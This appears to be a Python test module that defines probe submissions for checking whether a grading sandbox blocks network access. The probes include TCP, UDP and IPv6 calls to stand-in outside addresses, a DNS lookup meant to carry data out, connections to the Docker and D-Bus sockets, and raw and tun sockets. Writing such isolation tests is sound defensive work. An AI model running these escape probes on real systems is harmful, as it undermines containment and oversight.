"""Submissions that call somebody. Names and addresses lead nowhere but to listeners that the test put up."""

from __future__ import annotations

from academy.kernels.model import Layer
from tests.attacks.model import Submission, probe

__all__ = ["ABSTRACT", "ATTACKS", "DNS", "PORT", "SOCKET"]

PORT = 4801
"""Where listeners for TCP and UDP wait, on the loopback of IPv4 and of IPv6."""
DNS = ("127.0.0.53", 53)
ABSTRACT = "\0academy-listener"
SOCKET = "listener.socket"
"""Name of a Unix socket in the home folder of whoever grades."""

NAMESPACES = frozenset({Layer.NAMESPACES})

ATTACKS: tuple[Submission, ...] = (
    probe(
        "calls-by-tcp",
        "Connects to a service of this machine and to one outside.",
        f"socket.create_connection(('127.0.0.1', {PORT}), 0.3)",
        "socket.create_connection(('192.0.2.1', 80), 0.3)",
        "__import__('urllib.request').request.urlopen('http://192.0.2.1/', timeout=0.3)",
    ),
    probe(
        "calls-by-udp",
        "Sends packets that nobody has to accept.",
        f"socket.socket(type=socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', {PORT}))",
        "socket.socket(type=socket.SOCK_DGRAM).sendto(b'x', ('192.0.2.1', 9))",
        "socket.socket(type=socket.SOCK_DGRAM).sendto(b'x', ('255.255.255.255', 9))",
        needs=NAMESPACES,
    ),
    probe(
        "asks-for-names",
        "Carries something out in the question for a name.",
        "socket.getaddrinfo('carried-out.example', 80)",
        "socket.gethostbyname('localhost.example')",
        f"socket.socket(type=socket.SOCK_DGRAM).sendto(b'x', {DNS!r})",
        needs=NAMESPACES,
    ),
    probe(
        "calls-by-ipv6",
        "Takes the other protocol.",
        f"socket.socket(socket.AF_INET6).connect(('::1', {PORT}))",
        f"socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b'x', ('::1', {PORT}))",
        f"socket.socket(socket.AF_INET6).connect(('::ffff:127.0.0.1', {PORT}))",
        "socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b'x', ('2001:db8::1', 9))",
        needs=NAMESPACES,
    ),
    probe(
        "calls-an-abstract-unix-socket",
        "Connects to a socket that has no file.",
        f"socket.socket(socket.AF_UNIX).connect({ABSTRACT!r})",
        f"socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b'x', {ABSTRACT!r})",
    ),
    probe(
        "calls-a-unix-socket-by-its-path",
        "Connects to a socket of somebody else's program.",
        f"socket.socket(socket.AF_UNIX).connect('@HOME@/{SOCKET}')",
        "socket.socket(socket.AF_UNIX).connect('/run/dbus/system_bus_socket')",
        "socket.socket(socket.AF_UNIX).connect('/var/run/docker.sock')",
        needs=frozenset({Layer.FILE_TREE}),
    ),
    probe(
        "makes-itself-a-network",
        "Switches the loopback on, and opens raw sockets.",
        "fcntl.ioctl(socket.socket(), 0x8914, struct.pack('16sH14x', b'lo', 0x41))",
        "socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)",
        "socket.socket(17, socket.SOCK_RAW)",
        "os.open('/dev/net/tun', os.O_RDWR)",
        setup="import fcntl, struct",
    ),
    probe(
        "opens-sockets-of-unusual-families",
        "Asks for families that no namespace separates.",
        "socket.socket(40, socket.SOCK_STREAM)",
        "socket.socket(38, socket.SOCK_SEQPACKET)",
        "socket.socket(30, socket.SOCK_RDM)",
        "socket.socket(44, socket.SOCK_RAW)",
    ),
)
